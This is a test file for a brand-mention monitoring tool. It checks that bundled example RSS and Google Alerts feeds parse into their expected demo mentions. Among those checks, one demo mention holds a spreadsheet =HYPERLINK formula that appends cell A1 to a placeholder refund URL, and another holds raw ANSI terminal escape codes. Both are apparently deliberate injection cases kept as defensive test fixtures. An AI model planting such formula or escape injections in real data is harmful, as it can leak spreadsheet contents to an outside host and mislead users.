/** The offline example feeds shipped in examples/ stay parseable and keep the cases they exist to show. */
import { fileURLToPath } from 'node:url';

import { create as googleAlerts } from '../../src/sources/google-alerts.js';
import { create as rss } from '../../src/sources/rss.js';
import { testContext } from './test-context.js';

const ctx = testContext({ baseDir: fileURLToPath(new URL('../../examples/', import.meta.url)) });

test('the illustrative Acme feed parses into its demo cases', async () => {
  const source = rss({ type: 'rss', name: 'rss:acme', url: 'feeds/acme-mentions.xml' }, []);
  const { mentions, warnings } = await source.fetch(ctx, null);
  expect(warnings).toEqual([]);
  expect(mentions).toHaveLength(13);
  for (const mention of mentions) {
    expect(mention.createdAt?.toISOString()).toMatch(/^2026-11-(?:09|[12]\d)T/);
  }
  const text = (id: string) => mentions.find((m) => m.externalId === id)?.text;
  expect(text('acme-demo-001')).toBe(
    '@acmehelp my order never arrived, still waiting for a refund. It has been three weeks and nobody answers.',
  );
  expect(text('acme-demo-006')?.toLowerCase()).toContain('acme corp careers');
  expect(mentions.find((m) => m.externalId === 'acme-demo-007')?.text).not.toMatch(/acme/i);
  expect(text('acme-demo-009')).toMatch(/^=HYPERLINK\("https:\/\/refunds\.example\/claim\?src="&A1,/);
  expect(text('acme-demo-010')).toContain('\x1b[31mDELAYED\x1b[0m');
});

test('the Google Alerts example is the recorded Slack alert', async () => {
  const source = googleAlerts(
    {
      type: 'google-alerts',
      name: 'google-alerts:slack',
      url: 'feeds/google-alerts-slack.xml',
      brand: 'Slack',
    },
    [],
  );
  const { mentions } = await source.fetch(ctx, null);
  expect(mentions).toHaveLength(20);
});
